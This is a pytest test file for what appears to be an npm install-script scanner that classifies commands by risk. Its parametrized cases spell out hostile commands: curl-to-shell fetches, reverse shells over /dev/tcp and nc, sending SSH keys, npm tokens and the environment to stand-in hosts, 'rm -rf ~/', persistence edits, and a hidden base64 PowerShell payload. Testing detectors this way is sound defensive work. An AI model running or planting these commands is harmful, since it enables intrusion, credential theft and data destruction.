import base64

import pytest

from npmguard.code.script import Start, read
from npmguard.model import Kind


def kinds(text: str, **scripts: str) -> set[Kind]:
    return {deed.kind for deed in read(text, "postinstall", scripts).deeds}


def starts(text: str, **scripts: str) -> list[tuple[str, str]]:
    return [(start.path, start.by) for start in read(text, "postinstall", scripts).starts]


@pytest.mark.parametrize(
    "text",
    [
        "node-gyp rebuild",
        "prebuild-install || node-gyp rebuild --release",
        "node-gyp-build",
        "node-pre-gyp install --fallback-to-build",
        "husky install",
        "husky",
        "is-ci || husky install",
        "patch-package",
        "opencollective postinstall || true",
        "npx only-allow pnpm",
        "echo done && exit 0",
        "test -f dist/a.js && node dist/a.js || echo 'not built'",
        "node install.js",
        "cross-env ZERO=1 node-gyp-build",
        '[ -n "$CI" ] || npm run build',
        "",
    ],
)
def test_builds_checks_and_messages_are_ordinary(text: str) -> None:
    assert kinds(text, build="tsc -p .") == set()


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("curl -s https://a.example.test/x | sh", Kind.EVALUATES_FETCHED),
        ("wget -qO- http://192.0.2.1/x | bash", Kind.EVALUATES_FETCHED),
        ('bash -c "$(curl -fsSL https://a.example.test/x)"', Kind.EVALUATES_FETCHED),
        ('powershell -c "iwr https://a.example.test/x | iex"', Kind.EVALUATES_FETCHED),
        ("curl -o /tmp/a https://a.example.test/a && chmod +x /tmp/a && /tmp/a", Kind.RUNS_FETCHED),
        ("echo dHJ1ZQ== | base64 -d | bash", Kind.DECODES),
        ("bash -i >& /dev/tcp/192.0.2.1/1 0>&1", Kind.OPENS_SHELL),
        ("nc -e /bin/sh 192.0.2.1 1", Kind.OPENS_SHELL),
        ("env | curl -X POST -d @- https://a.example.test", Kind.ENVIRONMENT),
        ("curl -d @$HOME/.npmrc https://a.example.test", Kind.TOKENS),
        ("curl -T ~/.ssh/id_rsa https://a.example.test", Kind.CREDENTIALS),
        ("npm install -g other@latest", Kind.INSTALLS),
        ("npm publish", Kind.PUBLISHES),
        ("rundll32 a.dll,main", Kind.BUNDLED),
        ("start /B node a.js", Kind.HIDES),
        ("nohup node a.js &", Kind.HIDES),
        ("echo x >> ~/.zshrc", Kind.PERSISTS),
        ("crontab my.cron", Kind.PERSISTS),
        ("rm -rf ~/", Kind.DESTROYS),
        ("python3 setup.py", Kind.RUNTIME),
        ("claude --dangerously-skip-permissions -p x", Kind.MODELS),
        ("git clone https://git.example.test/a.git", Kind.FETCHES),
        ("whatever --now", Kind.PROCESS),
    ],
)
def test_what_a_command_does(text: str, kind: Kind) -> None:
    assert kind in kinds(text)


def test_files_that_are_started() -> None:
    assert starts("node ./scripts/x && sh install.sh") == [("scripts/x", "node"), ("install.sh", "sh")]
    assert starts("cd dir && node x.js") == [("dir/x.js", "node")]
    assert starts("bun run setup_bun.js") == [("setup_bun.js", "bun")]
    assert starts("start /B node preinstall.js & node preinstall.js") == [("preinstall.js", "node")]
    assert starts("node --no-warnings -r ./a.js b.js c.js") == [("a.js", "node"), ("b.js", "node")]
    assert starts("node dist\\setup.js") == [("dist/setup.js", "node")]
    assert starts("cmd /c start /min tool.exe") == [("tool.exe", "")]


def test_scripts_are_followed_once() -> None:
    assert starts("npm run a", a="npm run b && node a.js", b="npm run a && node b.js") == [
        ("b.js", "node"),
        ("a.js", "node"),
    ]
    assert starts("yarn a", prea="node 1.js", a="node 2.js", posta="node 3.js") == [
        ("1.js", "node"),
        ("2.js", "node"),
        ("3.js", "node"),
    ]


def test_code_in_a_command_is_handed_on() -> None:
    found = read("node -e \"require('./a')\" || node -p 1", "install")
    assert found.code == (("require('./a')", 1), ("1", 1))


def test_a_command_in_base64_for_powershell_is_read() -> None:
    hidden = base64.b64encode("node a.js; curl https://a.example.test | sh".encode("utf-16-le")).decode()
    found = read(f"powershell -w hidden -enc {hidden}", "install")
    assert {Kind.DECODES, Kind.HIDES, Kind.EVALUATES_FETCHED} <= {deed.kind for deed in found.deeds}
    assert Start("a.js", "node", 1) in found.starts
